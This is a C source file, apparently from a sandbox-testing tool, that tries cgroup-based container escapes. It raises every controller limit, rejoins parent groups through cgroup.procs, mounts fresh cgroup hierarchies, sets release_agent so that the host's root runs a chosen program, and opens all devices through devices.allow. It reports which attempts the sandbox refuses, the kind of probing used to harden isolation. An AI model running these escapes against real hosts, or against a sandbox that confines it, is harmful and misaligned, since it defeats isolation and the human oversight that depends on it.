/* Control groups: raising what the host has set, and getting out of the group. */
#include <dirent.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

#include "attack.h"

#define ROOT "/sys/fs/cgroup"

/* One of these means "more" in every file that limits something. */
static const char *const MORE[] = {"max",  "-1", "9223372036854771712", "a *:* rwm", "0-4095",
                                   "root", "1"};

/* A bare name of a file that the sandbox's root may write: what cgroups(7) hands to a delegatee. */
static bool is_delegated(const char *name) {
  static const char *const names[] = {"cgroup.procs", "tasks", "cgroup.threads",
                                      "cgroup.subtree_control"};
  for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
    if (strcmp(name, names[i]) == 0) {
      return true;
    }
  }
  return false;
}

struct tally {
  int refused;
  int open;
  int error;
};

static void raise_file(const char *path, struct tally *tally) {
  for (size_t i = 0; i < sizeof(MORE) / sizeof(MORE[0]); i++) {
    if (write_file(path, MORE[i]) >= 0) {
      open_way("%s took \"%s\"", path, MORE[i]);
      tally->open++;
      return;
    }
    tally->error = errno;
  }
  tally->refused++;
}

typedef void visit_file(const char *path, void *context);

static void raise_of_host(const char *path, void *tally) {
  raise_file(path, tally);
}

static void raise_of_own(const char *path, void *context) {
  (void)context;
  /* The first that is taken: the last is very little, and would end the machine. */
  for (size_t i = 0; i < sizeof(MORE) / sizeof(MORE[0]) && write_file(path, MORE[i]) < 0; i++) {
  }
}

static void each_file(const char *directory, const char *prefix, visit_file *visit, void *context) {
  DIR *files = opendir(directory);
  if (files == NULL) {
    return;
  }
  for (struct dirent *file = readdir(files); file != NULL; file = readdir(files)) {
    char path[512];
    /* Opening event_control and the pressure files takes a trigger; they set no limit. */
    if (file->d_type != DT_REG || is_delegated(file->d_name) ||
        strncmp(file->d_name, prefix, strlen(prefix)) != 0 ||
        strstr(file->d_name, "event_control") != NULL || strstr(file->d_name, "pressure") != NULL) {
      continue;
    }
    snprintf(path, sizeof(path), "%s/%s", directory, file->d_name);
    visit(path, context);
  }
  closedir(files);
}

/*
 * raise CONTROLLER: every file of the controller that the root of what a sandbox sees has. The
 * group below it, where version 2 has the shells, is the learner's own: what is written there must
 * not count, which the host can tell.
 */
static void raise_limits(int count, char **arguments) {
  struct tally tally = {0};
  struct stat status;
  char directory[256];
  char prefix[64];
  const char *controller = count > 0 ? arguments[0] : "memory";
  snprintf(directory, sizeof(directory), ROOT "/%s", controller);
  snprintf(prefix, sizeof(prefix), "%s.", controller);
  if (stat(ROOT "/cgroup.controllers", &status) == 0) {
    each_file(ROOT, prefix, raise_of_host, &tally);
    each_file(ROOT "/init", prefix, raise_of_own, NULL);
  } else if (stat(directory, &status) == 0) {
    each_file(directory, "", raise_of_host, &tally);
  } else {
    skipped("this host has no controller %s", controller);
    return;
  }
  if (tally.refused > 0) {
    refused("%d files of %s: %s", tally.refused, controller, error_name(tally.error));
  } else if (tally.open == 0) {
    skipped("%s has no file here", controller);
  }
}

/* Through the name of the group above, a link, and a mount of one's own. */
static void leave(int count, char **arguments) {
  static const char *const roots[] = {ROOT, ROOT "/memory", ROOT "/pids", ROOT "/unified"};
  static const char *const up[] = {"/../cgroup.procs", "/../../cgroup.procs", "/../tasks"};
  (void)count;
  (void)arguments;
  for (size_t i = 0; i < sizeof(roots) / sizeof(roots[0]); i++) {
    for (size_t j = 0; j < sizeof(up) / sizeof(up[0]); j++) {
      char path[128];
      snprintf(path, sizeof(path), "%s%s", roots[i], up[j]);
      if (strcmp(roots[i], ROOT) != 0 && strcmp(up[j], "/../../cgroup.procs") != 0 &&
          access(path, F_OK) == 0 && write_file(path, "0") >= 0) {
        open_way("wrote 0 to %s", path);
      }
    }
  }
  if (unshare(CLONE_NEWCGROUP | CLONE_NEWNS) < 0) {
    refused("a cgroup namespace: %s", error_name(errno));
  }
  mkdir("/tmp/groups", 0755);
  static const char *const options[] = {"memory", "pids", "cpu", NULL};
  for (size_t i = 0; i < sizeof(options) / sizeof(options[0]); i++) {
    const char *type = options[i] == NULL ? "cgroup2" : "cgroup";
    char path[64] = "/tmp/groups/../groups/cgroup.procs";
    if (mount("groups", "/tmp/groups", type, 0, options[i]) == 0) {
      char above[] = "/tmp/groups/machine";
      if (access(above, F_OK) == 0) {
        open_way("a fresh mount of %s shows the group above", type);
      }
      write_file(path, "0");
      umount2("/tmp/groups", MNT_DETACH);
    }
  }
  refused("groups above have no name here");
  ask_host();
}

static const char *const HIERARCHIES[] = {
    "memory", "pids",    "cpu",     "cpuset",     "devices",          "freezer",          "rdma",
    "misc",   "net_cls", "hugetlb", "perf_event", "none,name=escape", "none,name=systemd"};

/* release_agent HANDLER: the program the host's root would run when a group empties. */
static void release_agent(int count, char **arguments) {
  const char *handler = count > 0 ? arguments[0] : "/tmp/agent";
  int pid = fork_as_root_of_new(CLONE_NEWNS | CLONE_NEWCGROUP);
  if (pid != 0) {
    wait_for(pid);
    return;
  }
  mkdir("/tmp/agent", 0755);
  for (size_t i = 0; i < sizeof(HIERARCHIES) / sizeof(HIERARCHIES[0]); i++) {
    char options[256];
    if (mount("agent", "/tmp/agent", "cgroup", 0, HIERARCHIES[i]) < 0) {
      refused("mount of %s: %s", HIERARCHIES[i], error_name(errno));
      continue;
    }
    long result = write_file("/tmp/agent/release_agent", handler);
    if (result >= 0 || errno != ENOENT) {
      attempt("release_agent", result);
    } else {
      refused("%s has no release_agent: ENOENT", HIERARCHIES[i]);
    }
    snprintf(options, sizeof(options), "%s,release_agent=%s", HIERARCHIES[i], handler);
    attempt("remount with release_agent",
            mount("agent", "/tmp/agent", "cgroup", MS_REMOUNT, options));
    umount2("/tmp/agent", MNT_DETACH);
  }
  for (size_t i = 0; i < 6; i++) {
    char path[128];
    snprintf(path, sizeof(path), ROOT "/%s/release_agent", HIERARCHIES[i]);
    attempt(path, write_file(path, handler));
  }
  _exit(0);
}

/* v1: what tells the host's devices apart is the devices controller and the mount flags. */
static void devices(int count, char **arguments) {
  (void)count;
  (void)arguments;
  attempt("devices.allow", write_file(ROOT "/devices/devices.allow", "a *:* rwm"));
  mkdir(ROOT "/devices/below", 0755);
  attempt("devices.allow of a group below", write_file(ROOT "/devices/below/devices.allow", "a"));
  rmdir(ROOT "/devices/below");
}

const struct attack LIMIT_ATTACKS[] = {
    {"raise", raise_limits}, {"leave", leave}, {"release_agent", release_agent},
    {"devices", devices},    {NULL, NULL},
};
